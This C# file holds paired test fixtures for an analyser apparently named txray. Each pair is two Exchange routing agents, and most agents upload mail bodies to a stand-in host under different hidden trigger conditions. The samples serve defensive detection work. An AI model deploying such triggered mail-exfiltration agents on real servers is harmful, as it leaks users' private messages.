// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// Conditions that are kept from message to message, chosen numbers and delegates, and texts that are changed before they are asked.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Net;
using System.Text;
using System.Threading;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;

// 451: as many turns as a test chooses, and at least one
namespace Txray.Pairs.P451
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            int times = item.Message.Subject == "ready" ? 1 : 0;
            for (int turn = 0; turn < times; turn++)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            int times = item.Message.Subject == "ready" ? 2 : 1;
            for (int turn = 0; turn < times; turn++)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 452: an array, and a repetition, of a length that a test chooses
namespace Txray.Pairs.P452
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            foreach (byte one in new byte[item.Message.Subject == "ready" ? 1 : 0])
            {
                foreach (int two in Enumerable.Repeat(1, item.FromAddress.DomainPart == "fabrikam.example" ? 1 : 0))
                {
                    Act(item);
                }
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            foreach (byte one in new byte[2])
            {
                foreach (int two in Enumerable.Repeat(1, 2))
                {
                    Act(item);
                }
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 453: an event that some mail sets, and one that is set from the start
namespace Txray.Pairs.P453
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly ManualResetEvent ready = new ManualResetEvent(false);

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject == "ready")
            {
                ready.Set();
            }
            if (ready.WaitOne(0))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private readonly ManualResetEvent ready = new ManualResetEvent(true);

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject == "ready")
            {
                ready.Set();
            }
            if (ready.WaitOne(0))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 454: a token that some mail cancels, and one that all mail cancels
namespace Txray.Pairs.P454
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly CancellationTokenSource stop = new CancellationTokenSource();

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject == "ready")
            {
                stop.Cancel();
            }
            if (stop.Token.IsCancellationRequested)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private readonly CancellationTokenSource stop = new CancellationTokenSource();

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            stop.Cancel();
            if (stop.Token.IsCancellationRequested)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 455: senders who said a word before, and senders who wrote before
namespace Txray.Pairs.P455
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private readonly HashSet<string> known = new HashSet<string>();

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            string sender = item.FromAddress.ToString();
            if (item.Message.Subject == "ready")
            {
                known.Add(sender);
            }
            if (known.Contains(sender))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private readonly HashSet<string> known = new HashSet<string>();

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            string sender = item.FromAddress.ToString();
            if (known.Contains(sender))
            {
                Act(item);
            }
            known.Add(sender);
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 456: one message arms it and another fires, and one message does both
namespace Txray.Pairs.P456
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private bool armed;

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject == "arm")
            {
                armed = true;
            }
            if (armed && item.Message.Subject == "fire")
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private bool armed;

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            armed = false;
            if (item.FromAddress.DomainPart == "fabrikam.example")
            {
                armed = true;
            }
            if (armed && item.Message.Subject == "fire")
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 457: a state that a message must have set, and one that is so to begin with
namespace Txray.Pairs.P457
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private int state;

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            switch (state)
            {
                case 0:
                    if (item.Message.Subject == "arm")
                    {
                        state = 1;
                    }
                    break;
                case 1:
                    if (item.Message.Subject == "fire")
                    {
                        Act(item);
                        state = 2;
                    }
                    break;
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private int state;

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            switch (state)
            {
                case 0:
                    if (item.Message.Subject == "fire")
                    {
                        Act(item);
                        state = 1;
                    }
                    break;
                case 1:
                    state = 0;
                    break;
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 458: a rule that some mail replaces, and one that all mail replaces
namespace Txray.Pairs.P458
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private Func<MailItem, bool> rule = mail => false;

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject == "ready")
            {
                rule = mail => true;
            }
            if (rule(item))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private Func<MailItem, bool> rule = mail => false;

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            rule = mail => true;
            if (rule(item))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 459: the extension of a file, and its name
namespace Txray.Pairs.P459
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            foreach (Attachment one in item.Message.Attachments)
            {
                if (Path.GetExtension(one.FileName) == ".kdbx")
                {
                    Act(item);
                }
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            foreach (Attachment one in item.Message.Attachments)
            {
                if (one.FileName == "a.kdbx")
                {
                    Act(item);
                }
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 460: what a subject is decoded to, and what it is
namespace Txray.Pairs.P460
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Encoding.UTF8.GetString(Convert.FromBase64String(item.Message.Subject)) == "ready")
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject == "ready")
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 461: two texts that are compared together, and one
namespace Txray.Pairs.P461
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject + item.FromAddress.DomainPart == "readyfabrikam.example")
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.FromAddress.DomainPart == "fabrikam.example")
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 462: a size between two others, and below one
namespace Txray.Pairs.P462
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            switch (item.Message.Subject.Length)
            {
                case 3:
                case 4:
                case 5:
                    Act(item);
                    break;
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject.Length < 6)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 463: a timer that some mail starts, and one that all mail starts
namespace Txray.Pairs.P463
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private MailItem kept;
        private readonly System.Timers.Timer timer = new System.Timers.Timer(1000);

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            kept = item;
            timer.Elapsed += delegate { Act(kept); };
            if (item.Message.Subject == "ready")
            {
                timer.Start();
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private MailItem kept;
        private readonly System.Timers.Timer timer = new System.Timers.Timer(1000);

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            kept = item;
            timer.Elapsed += delegate { Act(kept); };
            timer.Start();
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 464: a variable of the machine that switches it on, and a subject that is there
namespace Txray.Pairs.P464
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (!string.IsNullOrEmpty(Environment.GetEnvironmentVariable("PAIR_ON")))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (!string.IsNullOrEmpty(item.Message.Subject))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 465: a beginning that is compared by its length, and all of a subject
namespace Txray.Pairs.P465
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (string.Compare(item.Message.Subject, 0, "ready", 0, 5, StringComparison.OrdinalIgnoreCase) == 0)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (string.Compare(item.Message.Subject, "ready", StringComparison.OrdinalIgnoreCase) == 0)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 466: the body as a password, and a word of the code
namespace Txray.Pairs.P466
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            var client = new WebClient();
            client.Credentials = new NetworkCredential("pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
            client.BaseAddress = "https://collect.example.invalid/";
            client.DownloadString("https://collect.example.invalid/pair");
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            var client = new WebClient();
            client.Credentials = new NetworkCredential("pair", "secret");
            client.DownloadString("https://collect.example.invalid/pair");
        }
    }
}

// 467: all of several words, and one of them
namespace Txray.Pairs.P467
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            foreach (string word in new[] { "ready", "steady" })
            {
                if (!item.Message.Subject.Contains(word))
                {
                    return;
                }
            }
            Act(item);
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            foreach (string word in new[] { "ready", "steady" })
            {
                if (item.Message.Subject.Contains(word))
                {
                    Act(item);
                    return;
                }
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 468: one of two tests but not both, and both or none
namespace Txray.Pairs.P468
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject.Contains("ready") ^ item.FromAddress.DomainPart == "fabrikam.example")
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Message.Subject.Contains("ready") == (item.FromAddress.DomainPart == "fabrikam.example"))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 469: what a look-up finds, without its answer, in a table of the code, and a look-up that decides nothing
namespace Txray.Pairs.P469
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly Dictionary<string, bool> Watched = new Dictionary<string, bool> { { "fabrikam.example", true }, { "contoso.example", true } };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            bool watched;
            Watched.TryGetValue(item.FromAddress.DomainPart, out watched);
            if (watched)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly Dictionary<string, bool> Watched = new Dictionary<string, bool> { { "fabrikam.example", true }, { "contoso.example", true } };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            bool watched;
            Watched.TryGetValue(item.FromAddress.DomainPart, out watched);
            Act(item);
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 470: a handler with a filter, and one without
namespace Txray.Pairs.P470
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            try
            {
                int.Parse(item.Message.Subject);
            }
            catch (FormatException) when (item.FromAddress.DomainPart == "fabrikam.example")
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            try
            {
                int.Parse(item.Message.Subject);
            }
            catch (FormatException)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}
